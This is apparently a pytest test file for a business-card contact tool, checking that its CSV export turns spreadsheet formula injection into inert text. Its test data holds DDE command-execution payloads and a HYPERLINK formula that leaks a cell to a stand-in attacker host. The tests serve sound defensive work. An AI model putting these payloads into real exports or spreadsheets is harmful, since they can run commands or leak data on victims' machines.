"""CSV formula injection: what a card, the review form or a note holds reaches the Google and
Excel CSVs as text a spreadsheet shows, never as a formula it runs."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from meishi.cli import app
from meishi.export import safe_cell
from meishi.review import review_model, split_answer
from meishi.store import Store
from test_contact_book import card

runner = CliRunner()

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize(
    ("value", "phone", "cell"),
    [
        (DDE, False, "'" + DDE),
        ("+cmd|' /C calc'!A0", False, "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", False, "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", False, "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", False, "'\t=1+1"),
        ("\r=1+1", False, "'\r=1+1"),
        ("＝ＳＵＭ（１）", False, "'＝ＳＵＭ（１）"),
        ("山田 太郎", False, "山田 太郎"),
        ("03-5210-7788", False, "03-5210-7788"),
        ("a=b", False, "a=b"),
        ("", False, ""),
        # a Google phone cell: an international number stays dialable, anything else is quoted
        ("+81-3-5210-7788", True, "+81-3-5210-7788"),
        ("+1 (415) 555-0100", True, "+1 (415) 555-0100"),
        ("+81-3-5210-7788", False, "'+81-3-5210-7788"),
        ("+81+cmd|' /C calc'!A0", True, "'+81+cmd|' /C calc'!A0"),
        ("+1-2-SUM(A1)", True, "'+1-2-SUM(A1)"),
        ("-1-2", True, "'-1-2"),
    ],
)
def test_safe_cell(value, phone, cell):
    assert safe_cell(value, phone=phone) == cell


#: (what the person typed in the review form, Google column, Excel column,
#:  the Google cell, the Excel cell)
REVIEWED = [
    ("title", DDE, "Organization Title", "役職", "'" + DDE, "'" + DDE),
    ("company", LINK, "Organization Name", "会社名", "'" + LINK, "'" + LINK),
    ("department", "-営業部", "Organization Department", "部署", "'-営業部", "'-営業部"),
    ("email", "@evil", "E-mail 1 - Value", "メール", "'@evil", "'@evil"),
    ("name", "=山田 太郎", "Last Name", "氏名", "'=山田", "'=山田 太郎"),
    (
        "mobile",
        "+81-90-1234-5678",
        "Phone 2 - Value",
        "携帯",
        "+81-90-1234-5678",
        "'+81-90-1234-5678",
    ),
    ("tel", "03-5210-7788", "Phone 1 - Value", "電話", "03-5210-7788", "03-5210-7788"),
    ("purpose", "+1 物流の相談", None, "目的", None, "'+1 物流の相談"),
    ("next_action", "＝来週電話", None, "次のアクション", None, "'＝来週電話"),
    ("met_where", "@交流会", None, "出会った場所", None, "'@交流会"),
]


@pytest.fixture
def reviewed(settings):
    """A contact completed through the review form with hostile values, plus a note."""
    settings.ensure_dirs()
    store = Store(settings.db_url, settings.images_dir)
    cid = store.add_card(
        card("a", name="山田 太郎", company="株式会社ミドリ精機", tel="03-5210-7788"),
        source_name="a.jpg",
    ).contact_id
    contact = store.get(cid)
    form = review_model(contact)
    typed = {key: value for key, value, *_ in REVIEWED}
    answer = form(**typed)  # the form prefills the rest with what was read
    fields, note = split_answer(answer)
    store.complete(cid, fields, note, offered=contact.fields)
    store.add_note(cid, DDE)
    store.close()
    return cid


def _rows(args: list[str], encoding: str) -> dict[str, str]:
    result = runner.invoke(app, ["export", "-f", "csv", *args])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(encoding), newline="")))
    assert len(rows) == 1
    return rows[0]


@pytest.mark.parametrize(("key", "typed", "google_col", "excel_col", "google", "excel"), REVIEWED)
def test_review_form_values_reach_the_csv_as_text(
    reviewed, key, typed, google_col, excel_col, google, excel
):
    if google_col:
        assert _rows([], "utf-8")[google_col] == google
    assert _rows(["--csv", "excel"], "utf-8-sig")[excel_col] == excel


def test_notes_reach_the_csv_as_text(reviewed):
    """A note is dated (``2026-12-02: =cmd...``), so its cell cannot start a formula; the
    Google Notes cell starts with a label."""
    excel = _rows(["--csv", "excel"], "utf-8-sig")["メモ"]
    assert excel.endswith(": " + DDE) and excel[:4].isdigit()
    google = _rows([], "utf-8")["Notes"]
    assert google.startswith("目的 Purpose: +1 物流の相談") and DDE in google


#: what a Japanese input method may type at the start of a cell (a Mac writes − U+2212 for
#: the full-width minus) and a CP932 file turns into a formula's start: – is written as -,
#: − as －
CP932_TURNS = [
    ("company", "–2+3+cmd|' /C calc'!A0", "Organization Name", "会社名"),
    ("title", "−1+cmd|' /C calc'!A0", "Organization Title", "役職"),
    ("next_action", "–1+1", None, "次のアクション"),
]


@pytest.mark.parametrize(("key", "typed", "google_col", "excel_col"), CP932_TURNS)
def test_a_cp932_csv_neutralises_what_its_encoding_turns_into_a_formula(
    settings, key, typed, google_col, excel_col
):
    settings.ensure_dirs()
    store = Store(settings.db_url, settings.images_dir)
    cid = store.add_card(card("a", name="山田 太郎"), source_name="a.jpg").contact_id
    contact = store.get(cid)
    fields, note = split_answer(review_model(contact)(purpose="相談", **{key: typed}))
    store.complete(cid, fields, note, offered=contact.fields)
    store.close()
    cells = [(_rows(["--csv", "excel", "--encoding", "cp932"], "cp932")[excel_col], excel_col)]
    if google_col:
        cells.append((_rows(["--encoding", "cp932"], "cp932")[google_col], google_col))
    for cell, column in cells:
        assert cell.startswith("'") and cell[1:] == typed.translate({0x2013: "-", 0x2212: "－"}), (
            column,
            cell,
        )
